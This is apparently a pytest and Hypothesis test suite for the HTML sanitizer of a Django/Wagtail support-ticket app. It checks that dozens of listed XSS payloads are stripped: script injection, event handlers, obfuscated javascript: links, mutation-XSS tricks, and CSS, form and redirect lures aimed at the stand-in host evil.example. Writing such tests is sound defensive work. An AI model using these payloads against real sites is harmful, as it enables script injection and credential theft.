"""HTML from anywhere: nothing runs, nothing is fetched, nothing looks like ours."""

import re
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from wagtail_escalated.bodies import MessageBody
from wagtail_escalated.sanitize import (
    ATTRIBUTES,
    TAGS,
    has_remote_images,
    html_from_text,
    sanitize_html,
    text_from_html,
    with_attribute,
)

EVIL = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import url(//evil.example/x.css); a[href^=s]{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/pixel)'>x</p>",
    "<base href='//evil.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action='//evil.example'><input name=password><button>Log in</button></form>",
    "<iframe src='//evil.example'></iframe><object data=x></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='JaVa\nScript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=' javascript&colon;alert(1)'>x</a>",
    "<a href='/admin/logout/'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='cid:of-another-ticket'>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><b>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p class='messages' id='login' data-controller='w-action'>x</p>",
    "<a href='https://ok.example' target=_self onclick=x ping=//evil.example>x</a>",
    "<video src=//evil.example poster=//evil.example></video><audio src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<div background='//evil.example/x.png'>x</div><table background=//evil.example><tr><td>",
]


class Allowed(HTMLParser):
    """Fails on any element or attribute that is not allowed."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS
        for name, value in attrs:
            known = ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"] | {"rel", "target", "loading"}
            assert name in known, (tag, name)
            if name == "href":
                assert re.match(r"(https?://|mailto:|tel:)", value, re.IGNORECASE)
            assert name != "src"


def check(html):
    parser = Allowed()
    parser.feed(html)
    parser.close()


@pytest.mark.parametrize("html", EVIL)
def test_nothing_evil_survives(html):
    clean = sanitize_html(html)
    assert isinstance(clean, SafeString)
    check(clean)


@pytest.mark.parametrize("html", EVIL)
def test_once_clean_it_stays_as_it_is(html):
    clean = sanitize_html(html)
    assert events(sanitize_html(clean)) == events(clean)


def events(html):
    """Elements and texts; the order of attributes tells nothing."""
    found = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attrs: found.append((tag, sorted(attrs)))
    parser.handle_endtag = lambda tag: found.append((tag, None))
    parser.handle_data = found.append
    parser.feed(html)
    parser.close()
    return found


PIECES = st.sampled_from(
    ["<svg>", "<math>", "<style>", "</style>", "<table>", "<td>", "<p ", "title='", "'>", "<!--", "-->",
     "<img src=x onerror=alert(1)>", "<a href=javascript:alert(1)>", "</p>", "<template>", "<noscript>",
     "<select>", "<form>", "&lt;script&gt;", "\x00", "<b>", "x"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=20))
def test_no_mixture_survives(pieces):
    check(sanitize_html("".join(pieces)))


def test_what_letters_need_stays():
    html = '<p dir="rtl">a <strong>b</strong></p><table><tbody><tr><td colspan="2">c</td></tr></tbody></table>'
    assert sanitize_html(html) == html


def test_links_open_elsewhere_and_tell_nothing():
    clean = sanitize_html('<a href="https://a.example/?x=1&amp;y=2">x</a>')
    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean
    assert 'href="https://a.example/?x=1&amp;y=2"' in clean


def test_remote_pictures_wait_until_asked_for():
    html = '<p><img src="https://evil.example/pixel.gif" alt="Logo"></p>'
    assert "evil.example" not in sanitize_html(html)
    assert 'alt="Logo"' in sanitize_html(html)
    assert "evil.example" in sanitize_html(html, remote_images=True)
    assert has_remote_images(html)
    assert not has_remote_images("<p>Logo</p>")


def test_pictures_of_the_letter_are_shown_where_they_are_named():
    html = '<img src="cid:a@b"><img src="CID:<other>">'
    clean = sanitize_html(html, cid_urls={"a@b": "/support/attachments/1/"})
    assert clean.count(" src=") == 1
    assert 'src="/support/attachments/1/"' in clean


def test_text_keeps_paragraphs_lists_and_where_links_lead():
    html = (
        "<style>p{}</style><p>Hello<br>you</p><ul><li>one</li><li>two</li></ul>"
        '<div>a</div><div><br></div><div>b</div><p><a href="https://a.example">here</a></p>'
    )
    assert text_from_html(html) == (
        "Hello\nyou\n\n- one\n- two\n\na\n\nb\n\nhere <https://a.example>"
    )


def test_text_becomes_paragraphs_with_safe_links():
    html = html_from_text('a <b>\nb\n\nsee https://a.example/?x="><script>alert(1)</script>.')
    assert html.startswith("<p>a &lt;b&gt;<br>b</p>\n<p>see <a href=")
    assert "<script" not in html
    check(html)


def test_a_link_in_text_ends_before_its_punctuation():
    assert 'href="https://a.example/b"' in html_from_text("(see https://a.example/b).")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_shown_as_text(text):
    check(html_from_text(text))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_text_can_be_stored(text):
    body = MessageBody.from_text(text)
    body.text.encode("utf-8")
    assert "\x00" not in body.text


def test_an_attribute_is_given_only_to_what_is_safe_and_stays_inside_its_quotes():
    cell = SafeString('<td class="a">1 < 2</td>')
    given_one = with_attribute(cell, "data-label", '"><script>')
    assert given_one == '<td data-label="&quot;&gt;&lt;script&gt;" class="a">1 < 2</td>'
    with pytest.raises(TypeError):
        with_attribute("<td></td>", "data-label", "Name")
